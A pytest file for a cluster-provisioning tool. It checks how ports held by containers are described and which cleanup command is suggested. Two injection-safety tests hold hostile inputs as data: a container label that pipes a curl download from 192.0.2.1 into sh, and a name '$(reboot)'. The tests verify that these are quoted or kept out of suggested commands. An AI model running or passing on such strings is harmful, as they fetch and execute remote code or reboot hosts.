"""A port in the hands of a container: whose it is, since when, and what to type."""

from __future__ import annotations

from dataclasses import replace

import pytest

from provision.core.plan import Mode, make_plan
from provision.core.playbook import Step
from provision.core.resource import State
from provision.render.merged import entries
from provision.resources.ports import PortsFree
from provision.resources.ports_held import held_by
from provision.resources.service import Place

NODE = 'taken by "gcs_server",pid=77,fd=9, container docker node-12345 vllm/vllm-openai:v0.10.0 2026-11-29T09:12 -'


def ports(*numbers: int) -> PortsFree:
    uses = tuple((number, f"use {number}") for number in numbers)
    return PortsFree(Place("/opt/p/clusters/demo/gpu-01/ray", "demo/gpu-01/ray"), "10.0.0.1", uses)


def test_one_of_run_cluster_is_named_with_its_image_and_since_when() -> None:
    (found,) = ports(6379).diff({"port 6379 (use 6379)": NODE}, ports(6379).want())
    assert found.aspect == "port 6379 (use 6379)"
    wanted = "taken by gcs_server, pid 77, in the container node-12345 of vllm/vllm-openai:v0.10.0"
    assert found.found == f"{wanted}, up since 2026-11-29 09:12 UTC"
    assert "`docker rm -f node-12345` on gpu-01" in found.hint


def test_one_that_has_several_ports_is_named_once() -> None:
    have = {f"port {number} (use {number})": NODE.replace("fd=9", f"fd={number}") for number in (6379, 8076)}
    (found,) = ports(6379, 8076).diff(have, ports(6379, 8076).want())
    assert found.aspect == ""
    assert (found.found or "").startswith("2 of them taken by the container node-12345 of ")


@pytest.mark.parametrize(
    ("holder", "blockers"),
    [
        ("taken by other/gpu-01/{}, of provision", ["taken by other/gpu-01/ray, of provision"]),
        (f"taken{NODE.partition(',fd=9')[2]}", ["taken by the container node-12345 of "]),
        ("taken by {}, pid 7", ["taken by ray, pid 7", "taken by vllm, pid 7"]),
    ],
)
def test_what_has_the_ports_of_two_services_blocks_once(holder: str, blockers: list[str]) -> None:
    """Ray's of the head and the model's API: one cluster of ours has both, or one container."""
    steps = [Step("gpu-01", ports(6379)), Step("gpu-01", replace(ports(8000), of="api")), Step("gpu-02", ports(6379))]
    observed = {
        step.key: {f"port {port} (use {port})": holder.format(name)}
        for step, port, name in zip(steps, (6379, 8000, 6379), ("ray", "vllm", "ray"), strict=True)
    }
    found = make_plan(Mode.UP, steps, observed).blockers
    assert [f.host for f in found] == ["gpu-01"] * len(blockers) + ["gpu-02"]
    assert all(finding.found.startswith(said) for finding, said in zip(found, blockers, strict=False))


@pytest.mark.parametrize(
    ("tail", "said", "hint"),
    [
        ("docker 0123456789ab - - -", "taken by the container 0123456789ab", "`docker rm -f 0123456789ab` on gpu-01"),
        ("docker ray-head-1 a/b:1 - guide", "the container ray-head-1 of a/b:1", "`docker compose -p guide down`"),
        ("perhaps docker node-1 a - -", "perhaps taken by the container node-1 of a", "`docker rm -f node-1`"),
        ("podman node-1 a - -", "the container node-1 of a", "`podman rm -f node-1`"),
        ("rootless-podman 0123456789ab - - -", "container 0123456789ab", "as the user whose it is"),
        ("kubernetes 0123456789ab - - -", "container 0123456789ab", "another `serve.port`"),
    ],
)
def test_what_is_told_and_what_to_type(tail: str, said: str, hint: str) -> None:
    wanted = replace(ports(80), keys=((80, "serve.port"),))
    (found,) = wanted.diff({"port 80 (use 80)": f"taken, container {tail}"}, wanted.want())
    assert said in (found.found or "")
    assert hint in found.hint


def test_a_label_of_strangers_is_quoted_where_it_is_to_be_typed() -> None:
    """Containers have the labels of their image."""
    (found,) = ports(80).diff(
        {"port 80 (use 80)": "taken, container docker a img - x;curl${IFS}192.0.2.1|sh"}, ports(80).want()
    )
    assert "compose -p 'x;curl${IFS}192.0.2.1|sh' down`" in found.hint


@pytest.mark.parametrize("name", ["--all", "-v", ".", "$(reboot)", "а1"])
def test_what_is_no_name_of_a_container_is_not_to_be_typed(name: str) -> None:
    (found,) = ports(80).diff({"port 80 (use 80)": f"taken, container docker {name} img - -"}, ports(80).want())
    assert name not in found.hint


@pytest.mark.parametrize("found", ["taken", 'taken by "python3",pid=12,fd=3', "taken by a/b/ray, of provision", "free"])
def test_what_is_in_no_container_is_not_said_to_be(found: str) -> None:
    assert held_by(found) is None


KEYS = ((6379, "ray.port"), (6380, "ray.node_manager_port"), (8000, "serve.port"))


@pytest.mark.parametrize(
    ("holder", "begins"),
    [
        ('taken by "nginx",pid=12,fd=3', "stop what listens there, or set another"),
        (NODE, "if nobody needs it, `docker rm -f node-12345` on gpu-01; or set another"),
        ("taken by other/gpu-01/vllm, of provision", "`provision down INVENTORY` with that of the cluster `other`"),
    ],
)
@pytest.mark.parametrize(("port", "key"), KEYS)
def test_a_port_that_is_taken_names_the_one_key_that_moves_it(port: int, key: str, holder: str, begins: str) -> None:
    wanted = replace(ports(port), keys=KEYS)
    (found,) = wanted.diff({f"port {port} (use {port})": holder}, wanted.want())
    assert wanted.fact(found.aspect) == f"port {port} (use {port})"
    assert found.hint.startswith(begins) and found.hint.endswith(f"or set another `{key}` in the inventory")


def test_of_a_port_that_no_key_moves_none_is_named() -> None:
    wanted = replace(ports(8073), keys=KEYS)
    (found,) = wanted.diff({"port 8073 (use 8073)": "taken"}, wanted.want())
    assert found.hint == "stop what listens there, since this port cannot be another one"


def test_another_cluster_on_the_same_hosts_is_told_once_with_all_that_moves_this_one() -> None:
    """Also where it calls the hosts by other names; a worker of this one has fewer ports than the head."""
    steps = [
        Step("gpu-01", replace(ports(6379, 6380), keys=KEYS)),
        Step("gpu-01", replace(ports(8000), keys=KEYS, of="api")),
        Step("gpu-02", replace(ports(6380, 6381), keys=KEYS)),
    ]
    observed: dict[str, State] = {
        step.key: dict.fromkeys(step.resource.want() or {}, f"taken by blue/lab-{step.host[-1]}/ray, of provision")
        for step in steps
    }
    (entry,) = entries(make_plan(Mode.UP, steps, observed).blockers)
    assert entry.hosts == ("gpu-01", "gpu-02")
    assert entry.text("hint") == (
        "`provision down INVENTORY` with that of the cluster `blue` stops it; "
        "or give this cluster other ports: `ray.port`, `ray.node_manager_port`, `serve.port`"
    )
